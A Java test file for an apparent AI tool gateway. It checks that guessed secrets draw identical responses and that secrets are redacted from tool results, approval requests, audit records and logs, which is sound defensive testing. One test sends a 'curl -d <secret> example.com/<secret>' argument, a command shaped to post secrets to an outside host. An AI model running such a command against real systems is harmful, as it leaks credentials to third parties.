package dev.toolgate.core.pipeline;

import static org.assertj.core.api.Assertions.assertThat;

import dev.toolgate.core.approval.ApprovalDesk;
import dev.toolgate.core.call.Call;
import dev.toolgate.core.call.CallListener;
import dev.toolgate.core.call.Cancellation;
import dev.toolgate.core.call.ErrorCode;
import dev.toolgate.core.call.Failure;
import dev.toolgate.core.call.Outcome;
import dev.toolgate.core.call.Output;
import dev.toolgate.core.call.OutputChunk;
import dev.toolgate.core.decision.Decision;
import dev.toolgate.core.json.Json;
import dev.toolgate.core.redact.KnownSecrets;
import dev.toolgate.core.redact.Redactor;
import dev.toolgate.core.tool.ToolFailure;
import java.util.ArrayList;
import java.util.HashSet;
import java.util.List;
import java.util.Map;
import java.util.Random;
import java.util.Set;
import java.util.function.Function;
import org.junit.jupiter.api.Test;

/** An attacker sends candidates for a secret of the server and looks for one that is answered differently. */
class SecretGuessingTest {
    private static final int CANDIDATES = 1_000;
    private static final String OWN = "k9Xw2LmQ7rTz4VbN8cYp3HsD";
    private static final String TENANTS = "p4Gv8NqZ1sWd6KxB3jRt7MfC";
    private static final String WEAK = "hunter22";

    private final KnownSecrets known = new KnownSecrets();
    private final Gate gate = new Gate();

    SecretGuessingTest() {
        known.learn(Gate.ALICE.tenant(), TENANTS);
        known.learn(Gate.ALICE.tenant(), WEAK);
        gate.redactor = Redactor.standard().withSecrets(Set.of(OWN)).withKnownSecrets(known);
    }

    private static List<String> candidates(String right) {
        Random random = new Random(5);
        List<String> all = new ArrayList<>();
        for (int number = 0; number < CANDIDATES - 1; number++) {
            StringBuilder one = new StringBuilder();
            right.chars().forEach(letter -> one.append(like((char) letter, random)));
            all.add(one.toString());
        }
        all.add(random.nextInt(all.size()), right);
        return all;
    }

    private static char like(char letter, Random random) {
        if (Character.isDigit(letter)) {
            return (char) ('0' + random.nextInt(10));
        }
        return (char) ((Character.isUpperCase(letter) ? 'A' : 'a') + random.nextInt(26));
    }

    private void findsNothing(Function<String, String> attempt) {
        for (String right : List.of(OWN, TENANTS, WEAK)) {
            Set<String> answers = new HashSet<>();
            for (String candidate : candidates(right)) {
                answers.add(attempt.apply(candidate).replace(candidate, "<candidate>"));
            }
            assertThat(answers).as("answers to candidates for %s", right).hasSize(1);
        }
    }

    private String lastRecord() {
        return gate.audit
                .entries()
                .getLast()
                .toString()
                .replaceAll("requestId=[^,]*, |took=[^,]*, |at=[^,]*, |hmac-sha256:[0-9a-f:]+", "");
    }

    private static String shown(Answer answer) {
        Outcome outcome = answer.asOutcome();
        Failure failure = outcome instanceof Outcome.Refused refused
                ? refused.failure()
                : outcome instanceof Outcome.Failed failed ? failed.failure() : null;
        return outcome instanceof Outcome.Completed completed
                ? completed.output().text()
                        + Json.MAPPER.valueToTree(completed.output().structured())
                        + completed.output().metadata()
                : failure + "";
    }

    @Test
    void a_tool_that_echoes_arguments_answers_every_candidate_alike() {
        gate.with(EchoTool.safe(
                        (arguments, _) -> Output.of("said " + arguments.text(), new EchoTool.Result(arguments.text()))
                                .with(Map.of("text", arguments.text()))))
                .granting("echo");

        findsNothing(candidate -> shown(gate.send("echo", Map.of("text", "it is " + candidate + "."))) + lastRecord());
    }

    @Test
    void a_failure_that_names_an_argument_answers_every_candidate_alike() {
        gate.with(EchoTool.safe((arguments, _) -> {
                    throw new ToolFailure(
                            ErrorCode.TOOL_EXECUTION_FAILED,
                            "no file " + arguments.text(),
                            Map.of("path", arguments.text()));
                }))
                .granting("echo");

        findsNothing(candidate -> shown(gate.send("echo", Map.of("text", candidate))) + lastRecord());
    }

    @Test
    void invalid_arguments_and_unknown_tools_answer_every_candidate_alike() {
        gate.with(EchoTool.safe()).granting("echo");

        findsNothing(candidate -> shown(gate.send("echo", Map.of(candidate, 1))) + lastRecord());
        findsNothing(candidate -> shown(gate.send("echo", Map.of("times", candidate))) + lastRecord());
        findsNothing(candidate -> shown(gate.send(candidate, Map.of("text", "x"))) + lastRecord());
    }

    @Test
    void live_output_shows_every_candidate_alike() {
        gate.with(EchoTool.safe((arguments, context) -> {
                    for (String letter : arguments.text().split("")) {
                        context.emit(OutputChunk.Source.STDOUT, letter);
                    }
                    return Output.text("done");
                }))
                .granting("echo");

        findsNothing(candidate -> {
            StringBuilder heard = new StringBuilder();
            CallListener listener = chunk -> heard.append(chunk.text());
            Call call = Gate.call("echo", Map.of("text", "it is " + candidate + "!"));
            gate.send(call.followedBy(listener, new Cancellation()));
            return heard.toString();
        });
    }

    @Test
    void a_list_written_by_one_call_is_read_unmasked_by_another() {
        String[] kept = {""};
        gate.with(EchoTool.safe((arguments, _) -> {
                    if (arguments.path() == null) {
                        kept[0] = arguments.text();
                        return Output.text("written");
                    }
                    return Output.text(kept[0]);
                }))
                .granting("echo");
        for (String right : List.of(OWN, TENANTS, WEAK)) {
            String list = String.join("\n", candidates(right).subList(0, 30)) + "\n" + right;
            gate.send("echo", Map.of("text", list));

            assertThat(shown(gate.send("echo", Map.of("text", "x", "path", "/list"))))
                    .startsWith(list);
        }
    }

    @Test
    void approval_requests_look_alike_for_every_candidate() {
        gate.with(EchoTool.dangerous((arguments, _) -> Output.text(arguments.text())))
                .granting("echo");
        gate.rules.add((call, tool, session) -> new Decision.NeedsApproval(
                "a person must say yes to " + call.arguments().path("text").asString(), null));

        for (String right : List.of(OWN, TENANTS, WEAK)) {
            Set<String> questions = new HashSet<>();
            for (String candidate : candidates(right).subList(0, 999)) {
                gate.send(Gate.call("echo", Map.of("text", "say " + candidate)).held(Call.WhenHeld.RETURN));
            }
            gate.send(Gate.call("echo", Map.of("text", "say " + right)).held(Call.WhenHeld.RETURN));
            gate.approvals
                    .list(Gate.ALICE.tenant(), ApprovalDesk.Filter.by(null, null, null), null, 10_000)
                    .forEach(request -> questions.add((request.arguments() + "\n" + request.reason() + "\n"
                                    + request.preview() + "\n" + request.maskedCharacters())
                            .replaceAll("[A-Za-z0-9]{24}|\\b[a-z]{6}[0-9]{2}\\b", "<candidate>")));
            assertThat(questions).as(right).hasSizeLessThanOrEqualTo(2);
        }
    }

    @Test
    void a_secret_the_caller_did_not_send_stays_hidden_in_results() {
        gate.with(EchoTool.safe((_, _) -> Output.of("own " + OWN + ", tenant's " + TENANTS, new EchoTool.Result(OWN))))
                .granting("echo");

        assertThat(shown(gate.send("echo", Map.of("text", "x"))))
                .isEqualTo("own [redacted], tenant's [redacted]{\"said\":\"[redacted]\"}{}");
    }

    @Test
    void a_secret_that_was_sent_is_masked_in_the_record_and_in_logs() {
        gate.with(EchoTool.safe()).granting("echo");

        gate.send("echo", Map.of("text", "curl -d " + OWN + " example.com/" + TENANTS));

        assertThat(gate.audit.entries().getLast().toString())
                .doesNotContain(OWN, TENANTS)
                .contains("curl -d [redacted: 24 characters]");
        assertThat(gate.redactor.clean("log of " + OWN + TENANTS + WEAK)).isEqualTo("log of [redacted]");
    }
}
